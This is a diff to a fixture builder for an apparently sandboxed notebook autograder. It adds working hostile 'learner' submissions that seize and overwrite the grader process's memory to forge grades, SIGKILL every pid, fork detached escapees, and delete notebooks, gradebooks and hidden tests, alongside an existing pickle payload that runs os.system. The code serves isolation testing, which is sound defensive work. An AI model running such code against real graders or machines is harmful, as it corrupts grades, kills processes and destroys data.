@@ -73,6 +73,79 @@ def put(folder: Path, learner: str, exercise: str, nb: dict | str) -> None:
 SDPA_HEAD = "def scaled_dot_product_attention(query, key, value, mask=None, dropout_p=0.0):\n"
 ZEROS = "    return torch.zeros(*query.shape[:-1], value.size(-1), dtype=query.dtype), torch.zeros(*query.shape[:-1], key.size(-2), dtype=query.dtype)\n"
 
+UNIFORM = ("    w = torch.full((*query.shape[:-1], key.size(-2)), 1.0 / key.size(-2), dtype=query.dtype)\n"
+           "    return w @ value, w\n")
+# ptrace and process_vm_* on the parent (the grading pytest process) and the pids around it: what it
+# reaches it would print, and it tries to overwrite what it can with a huge number (the tolerances)
+ATTACK_PARENT = """
+import ctypes, os, struct
+libc = ctypes.CDLL(None, use_errno=True)
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+def attack_parent():
+    base = os.getppid()
+    for pid in [base] + list(range(max(2, base - 200), base + 200)):
+        if libc.ptrace(0x4206, pid, 0, 0) == 0:
+            print("seized", pid)
+        buffer = ctypes.create_string_buffer(4096)
+        for address in (0x400000, 0x555555554000, 0x7ffff7dd0000):
+            local, remote = iovec(ctypes.addressof(buffer), 4096), iovec(address, 4096)
+            if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
+                print("read", pid, hex(address), buffer.raw[:64])
+                payload = ctypes.create_string_buffer(struct.pack("<d", 1e300) * 512)
+                libc.process_vm_writev(pid, ctypes.byref(iovec(ctypes.addressof(payload), 4096)), 1, ctypes.byref(remote), 1, 0)
+attack_parent()
+"""
+# SIGKILL to every pid there is, for a second, at import and in every call: the other worker's
+# learner runs at the same time
+KILL_EVERYONE = """
+import os, time
+def kill_everyone(seconds):
+    end = time.time() + seconds
+    while time.time() < end:
+        for pid in [-1] + list(range(2, 40000)):
+            try:
+                os.kill(pid, 9)
+            except OSError:
+                pass
+"""
+ESCAPE = """
+import ctypes, os, time
+def escape(n):
+    for _ in range(n):
+        try:
+            if os.fork() == 0:
+                os.setsid()
+                ctypes.CDLL(None).prctl(15, b"tfs-escapee", 0, 0, 0)
+                time.sleep(300)
+                os._exit(0)
+        except OSError as err:
+            print("fork refused:", err)
+"""
+# truncates, renames and deletes the class's notebooks, the grader's output and the hidden tests
+DESTROY = """
+import os
+TARGETS = {targets!r}
+def destroy():
+    for root in TARGETS:
+        for folder in [root] + [os.path.join(root, name) for name in ("results", "feedback", "solution", "skeleton")]:
+            for call in (lambda p: os.truncate(p, 0), os.unlink, lambda p: os.rename(p, p + ".gone"), os.rmdir):
+                try:
+                    call(folder)
+                except OSError:
+                    pass
+            for name in ("01_attention.ipynb", "solution.json", "gradebook.csv", "test_hidden_ex01.py"):
+                try:
+                    os.truncate(os.path.join(folder, name), 0)
+                except OSError:
+                    pass
+                try:
+                    os.unlink(os.path.join(folder, name))
+                except OSError:
+                    pass
+destroy()
+"""
+
 CHEATS = {
     # calls the reference implementation, which the grader does not let it import
     "cheat-calls-the-reference": (SDPA_HEAD + "    from transformer import scaled_dot_product_attention as ref\n"
@@ -107,14 +180,20 @@ CHEATS = {
                                       "    class Payload:\n        def __reduce__(self):\n            return (os.system, ('touch /tmp/pwned-by-submission',))\n"
                                       "    data = pickle.dumps(Payload())\n    main = sys.modules['__main__']\n"
                                       "    os.write(main.resp_fd, struct.pack('<Q', len(data)) + data)\n" + ZEROS, None),
+    # attacks on the grader and the other learners (tests/autograder/test_isolation.py proves each
+    # works without isolation): uniform weights, honestly worth nothing, plus the attack
+    "attack-forges-its-grade": (SDPA_HEAD + "    attack_parent()\n" + UNIFORM, ATTACK_PARENT),
+    "attack-signals-everyone": (SDPA_HEAD + "    kill_everyone(1.0)\n" + UNIFORM, KILL_EVERYONE + "kill_everyone(1.0)\n"),
+    "attack-forks-escapees": (SDPA_HEAD + "    escape(5)\n" + UNIFORM, ESCAPE + "escape(20)\n"),
+    "attack-destroys-files": (SDPA_HEAD + "    destroy()\n" + UNIFORM, DESTROY),
     # resources
     "infinite-loop": (SDPA_HEAD + "    while True:\n        pass\n", None),
     "memory-hog": (SDPA_HEAD + "    hog = [torch.ones(256, 1024, 1024) for _ in range(64)]\n" + ZEROS, None),
 }
 
 
-def build(folder: Path, hidden_path: Path) -> dict:
-    """Write the class into `folder`; return {learner: expected total} (see EXPECTED's comments)."""
+def build(folder: Path, hidden_path: Path, out: Path | None = None) -> dict:
+    """Write the class into `folder` (graded into `out`); return the set of learners."""
     folder.mkdir(parents=True, exist_ok=True)
     reference = str(ROOT / "transformer" / "attention.py")
     for exercise in ("01", "02", "03", "04", "05"):
@@ -124,7 +203,10 @@ def build(folder: Path, hidden_path: Path) -> dict:
         put(folder, wrong.learner, wrong.exercise, edited(wrong.exercise, wrong.cell, wrong.edits))
     for learner, (sdpa, extra) in CHEATS.items():
         if extra is not None:
-            extra = extra.format(hidden=str(hidden_path), reference=reference) if "{hidden" in extra else extra
+            if "{hidden" in extra:
+                extra = extra.format(hidden=str(hidden_path), reference=reference)
+            elif "{targets" in extra:
+                extra = extra.format(targets=[str(folder), str(out or folder), str(hidden_path.parent)])
         put(folder, learner, "01", edited("01", "export-sdpa", replace_with=sdpa, extra_cell=extra))
     # a copy of another learner's wrong implementation (BANK[1], exercise 01), comments changed
     copied = edited("01", "export-sdpa", BANK[1].edits)
